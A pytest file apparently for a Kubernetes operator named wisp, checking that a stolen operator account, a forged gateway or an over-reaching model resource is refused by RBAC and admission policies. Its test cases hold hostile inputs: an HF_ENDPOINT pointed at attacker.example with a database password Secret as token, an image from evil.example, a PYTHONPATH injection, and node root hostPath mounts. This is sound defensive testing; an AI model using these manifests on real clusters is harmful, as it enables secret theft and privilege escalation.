"""Rights that a tenant, a stranger's pod or a stolen account do not have, against a real API server."""

import json
import ssl
import subprocess
import time
import urllib.error
import urllib.request
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml
from api_server import ROOT, TOKEN, Operator, binary_folder, model, until

COST = "controller.kubernetes.io/pod-deletion-cost"
SPACE = "wisp-system"


PARTS = (
    *("serviceaccount", "clusterrole", "clusterrolebinding", "role", "rolebinding", "lease"),
    *("validatingadmissionpolicy", "validatingadmissionpolicybinding"),
)


@pytest.fixture(scope="module")
def account(server):
    """The operator's account with the chart's rights and admission policies."""
    helm = binary_folder() / "helm"
    if not Path(helm).exists():
        pytest.skip(f"{helm} is missing; `make cluster` builds it")
    command = [str(helm), "template", "wisp", str(ROOT / "charts/wisp"), "--namespace", SPACE]
    command += ["--kube-version", "1.34", "--set", "operator.markIdlePods=true"]
    command += ["--set", "policy.fileDirectories={/srv/models}"]
    command += [part for name in PARTS for part in ("--show-only", f"templates/operator-{name}.yaml")]
    manifests = subprocess.run(command, check=True, capture_output=True, text=True).stdout
    server.kubectl("create", "namespace", SPACE)
    server.kubectl("apply", "-f", "-", stdin=manifests)
    name = f"system:serviceaccount:{SPACE}:wisp-operator"
    server.kubectl("create", "namespace", "probe-rights")
    make_pod(server, "probe-rights", "probe", {"wisp.dev/model": "m"})

    def are_enforced():
        change = {"metadata": {"labels": {"at": str(time.monotonic_ns())}}}
        refused = patched(server, name, "probe-rights", "probe", change)
        return "nothing of a pod" in refused and "of models alone" in created(
            server, name, "probe-rights", deployment(owner=None)
        )

    until(are_enforced)
    return name


def make_pod(server, namespace, name, labels):
    container = {"name": "runtime", "image": "registry/wisp-runtime:1"}
    server.apply(
        {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": name, "labels": labels, "annotations": {"kept": "1"}},
            "spec": {"containers": [container], "automountServiceAccountToken": False},
        },
        namespace=namespace,
    )


def patched(server, account, namespace, name, patch):
    """Patch a pod as ``account``; the refusal, empty if it was taken."""
    path = f"/api/v1/namespaces/{namespace}/pods/{name}"
    return refusal_of(server, account, "PATCH", path, patch, "application/strategic-merge-patch+json")


def created(server, account, namespace, manifest):
    """Create a Deployment as ``account``; the refusal, empty if it was taken."""
    return refusal_of(server, account, "POST", f"/apis/apps/v1/namespaces/{namespace}/deployments", manifest)


def refusal_of(server, account, method, path, body, kind="application/json"):
    headers = {"authorization": f"Bearer {TOKEN}", "impersonate-user": account, "content-type": kind}
    request = urllib.request.Request(server.url + path, json.dumps(body).encode(), headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=10, context=ssl._create_unverified_context()):
            return ""
    except urllib.error.HTTPError as error:
        return json.load(error)["message"]


OWNER = {"apiVersion": "wisp.dev/v1alpha1", "kind": "InferenceModel", "name": "m", "uid": "u"}
OWNER |= {"controller": True}
HARMLESS = {"privileged": False, "allowPrivilegeEscalation": False}


def deployment(owner=OWNER, security=HARMLESS, host_path="/srv/models/m", **pod):
    """A Deployment as the operator makes them, save for what a thief of its account would change."""
    container = {"name": "runtime", "image": "x", "securityContext": security}
    spec = {
        "automountServiceAccountToken": False,
        "securityContext": {"runAsNonRoot": True},
        "containers": [container],
        "volumes": [{"name": "model", "hostPath": {"path": host_path}}],
        **pod,
    }
    labels = {"wisp.dev/model": "m"}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "m", "labels": labels, **({"ownerReferences": [owner]} if owner else {})},
        "spec": {
            "replicas": 0,
            "selector": {"matchLabels": labels},
            "template": {"metadata": {"labels": labels}, "spec": spec},
        },
    }


@pytest.mark.parametrize(
    ("manifest", "refusal"),
    [
        (deployment(), ""),
        (deployment(owner=None), "makes objects of models alone"),
        (deployment(owner=OWNER | {"kind": "Node", "apiVersion": "v1"}), "makes objects of models alone"),
        (deployment(automountServiceAccountToken=True), "no pods with an account"),
        (deployment(serviceAccountName="admin"), "no pods with an account"),
        (deployment(hostNetwork=True), "no pods with an account"),
        (deployment(hostPID=True), "no pods with an account"),
        (deployment(securityContext={}), "no pods with an account"),
        (deployment(security={"privileged": True}), "no pods with an account"),
        (deployment(security={}), "no pods with an account"),
        (deployment(host_path="/"), "mounts no directory of a node"),
        (deployment(host_path="/srv/models-of-others"), "mounts no directory of a node"),
    ],
)
def test_a_stolen_account_of_the_operator_makes_no_pod_with_more_rights_than_a_models(
    server, namespace, account, manifest, refusal
):
    said = created(server, account, namespace, manifest)
    assert (refusal in said) if refusal else said == ""


STRANGERS_SERVICE = {
    "apiVersion": "v1",
    "kind": "Service",
    "metadata": {"name": "redis"},
    "spec": {"selector": {"app": "redis"}, "ports": [{"port": 6379}]},
}


def test_a_stolen_account_of_the_operator_changes_no_strangers_service(server, namespace, account):
    server.apply(STRANGERS_SERVICE, namespace=namespace)
    path = f"/api/v1/namespaces/{namespace}/services/redis"
    taken = {"metadata": {"ownerReferences": [OWNER]}, "spec": {"selector": {"wisp.dev/model": "m"}}}
    assert "changes and deletes objects of models alone" in refusal_of(
        server, account, "PATCH", path, taken, "application/merge-patch+json"
    )
    assert server.get("service", "redis", namespace)["spec"]["selector"] == {"app": "redis"}


def test_the_operator_does_its_work_within_its_roles_and_policies(server, namespace, account, tmp_path):
    config = yaml.safe_load(server.kubeconfig.read_text())
    token = server.kubectl("create", "token", "wisp-operator", "-n", SPACE).strip()
    config["users"][0]["user"] = {"token": token}
    place = SimpleNamespace(home=tmp_path, kubeconfig=tmp_path / "kubeconfig")
    place.kubeconfig.write_text(yaml.safe_dump(config))
    fetched = {"model": {"uri": "hf://acme/none"}, "replicas": 1}
    claim = fetched | {"cache": {"type": "PVC", "prefetch": True}}
    operator = Operator(place, SPACE, "one", "--lease-name", "wisp-operator")
    try:
        until(operator.leads)
        server.apply(
            model("file", model={"uri": "file:///srv/models/x"}, replicas=2),
            model("node", **fetched),
            model("claim", **claim),
            namespace=namespace,
        )
        wanted = [*(("deployment", name) for name in ("file", "node", "claim")), ("pvc", "claim-cache")]
        wanted += [(kind, "file") for kind in ("service", "networkpolicy", "pdb")]
        until(lambda: all(server.get(kind, name, namespace) for kind, name in wanted))
        until(lambda: server.get("jobs", namespace=namespace))
        fewer = '{"spec": {"replicas": 1}}'
        server.kubectl("patch", "imodel", "file", "-n", namespace, "--type", "merge", "-p", fewer)
        until(lambda: server.get("pdb", "file", namespace) is None)
        statuses = {name: server.status(name, namespace) for name in ("file", "node", "claim")}
        assert "ChildRefused" not in json.dumps(statuses)
        assert [line for line in operator.read("/metrics").splitlines() if 'code="403"' in line] == []
    finally:
        operator.stop()
        print(operator.log.read_text()[-4000:])


@pytest.mark.parametrize(
    ("labels", "patch", "refusal"),
    [
        ({"wisp.dev/model": "m"}, {"metadata": {"annotations": {COST: "-5"}}}, ""),
        ({"app": "redis"}, {"metadata": {"annotations": {COST: "-5"}}}, "pods of models alone"),
        ({"wisp.dev/model": "m"}, {"metadata": {"annotations": {"other": "1"}}}, "but its deletion cost"),
        ({"wisp.dev/model": "m"}, {"metadata": {"annotations": {"kept": None}}}, "but its deletion cost"),
        ({"wisp.dev/model": "m"}, {"metadata": {"annotations": {"kept": "2"}}}, "but its deletion cost"),
        ({"wisp.dev/model": "m"}, {"metadata": {"labels": {"app": "x"}}}, "nothing of a pod but"),
        ({"wisp.dev/model": "m"}, {"metadata": {"finalizers": ["a.b/c"]}}, "nothing of a pod but"),
        (
            {"wisp.dev/model": "m"},
            {"spec": {"containers": [{"name": "runtime", "image": "evil"}]}},
            "nothing of a pod but",
        ),
    ],
)
def test_a_stolen_account_of_the_operator_changes_no_pod(server, namespace, account, labels, patch, refusal):
    make_pod(server, namespace, "victim", labels)
    said = patched(server, account, namespace, "victim", patch)
    assert (refusal in said) if refusal else said == ""
    image = server.get("pod", "victim", namespace)["spec"]["containers"][0]["image"]
    assert image == "registry/wisp-runtime:1"


@pytest.mark.parametrize(
    ("spec", "value"),
    [
        ({"model": {"uri": "file:///var/lib/kubelet/pods"}}, "policy.fileDirectories"),
        (
            {
                "model": {"uri": "oci://evil.example/code:1"},
                "runtime": {"env": [{"name": "PYTHONPATH", "value": "/models/thief"}]},
            },
            "policy.env ",
        ),
        (
            {
                "model": {"uri": "hf://acme/m"},
                "runtime": {
                    "env": [
                        {"name": "HF_ENDPOINT", "value": "http://attacker.example"},
                        {"name": "HF_TOKEN", "secretRef": {"name": "database", "key": "password"}},
                    ]
                },
            },
            "policy.envSecretRefs",
        ),
    ],
    ids=["directory of a node", "code from an image", "any Secret"],
)
def test_a_model_that_asks_for_more_has_no_pods_and_its_neighbour_has(
    server, namespace, start_operator, spec, value
):
    operator = start_operator("one", "--allow-file-below", "/srv/models")
    until(operator.leads)
    own = {"model": {"uri": "file:///srv/models/chat"}, "gpu": {"count": 0}, "replicas": 1}
    server.apply(
        model("thief", **{"gpu": {"count": 0}, "replicas": 1, **spec}),
        model("chat", **own),
        namespace=namespace,
    )
    refused = until(lambda: server.condition("thief", "Ready", namespace).get("message"))
    assert value in refused
    assert server.condition("thief", "Accepted", namespace)["reason"] == "NotAllowed"
    until(lambda: server.get("deployment", "chat", namespace))
    assert server.get("deployment", "thief", namespace) is None


def post(port, headers):
    report = {"waiting": 100000, "running": 0, "arrivals": 1, "idleSeconds": 0.0}
    body = {"gateway": "i-am-no-gateway", "models": {"prod/llama": report}}
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}/demand",
        json.dumps(body).encode(),
        {"content-type": "application/json"} | headers,
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as answer:
            return answer.status
    except urllib.error.HTTPError as error:
        return error.code


def test_demand_of_no_gateway_starts_no_pod(server, namespace, start_operator, tmp_path):
    keys = tmp_path / "keys"
    keys.write_text("k" * 32)
    operator = start_operator("one", "--pod-token-keys", str(keys))
    until(operator.leads)
    server.apply(
        model("llama", model={"uri": "pvc://m"}, gpu={"count": 0}, scaling={"max": 8}), namespace=namespace
    )
    until(lambda: server.get("deployment", "llama", namespace))
    for headers in ({}, {"x-wisp-gateway": "i-am-no-gateway", "x-wisp-token": "0" * 64}):
        assert post(operator.port, headers) == 401
    assert server.get("deployment", "llama", namespace)["spec"]["replicas"] == 0
    variables = server.get("deployment", "llama", namespace)["spec"]["template"]["spec"]["containers"][0][
        "env"
    ]
    assert [variable["name"] for variable in variables].count("WISP_POD_TOKEN_SHA256") == 1


def test_the_name_of_the_api_servers_service_is_refused_at_apply(server):
    done = server.apply(model("kubernetes", model={"uri": "hf://acme/m"}), check=False)
    assert done.returncode != 0
    assert "Service of the API server itself" in done.stderr
    assert "selector" not in server.get("service", "kubernetes")["spec"]
